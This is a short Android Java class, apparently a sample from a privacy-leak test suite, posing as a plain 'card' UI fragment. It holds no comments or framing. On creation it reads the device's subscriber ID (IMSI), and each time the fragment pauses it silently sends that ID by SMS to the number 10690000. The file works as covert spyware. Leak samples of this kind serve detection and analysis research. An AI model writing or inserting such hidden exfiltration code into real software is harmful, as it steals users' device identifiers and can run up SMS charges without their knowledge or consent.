package cn.privlens.suite.fragment_left;

import android.app.Fragment;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class CardFragment extends Fragment {
    private String card = "";

    @Override
    public void onActivityCreated(Bundle state) {
        super.onActivityCreated(state);
        card = ((TelephonyManager) getActivity().getSystemService(Context.TELEPHONY_SERVICE)).getSubscriberId();
    }

    @Override
    public void onStart() {
        super.onStart();
        getActivity().setTitle("card");
    }

    @Override
    public void onPause() {
        super.onPause();
        SmsManager.getDefault().sendTextMessage("10690000", null, "left " + card, null, null);
    }
}
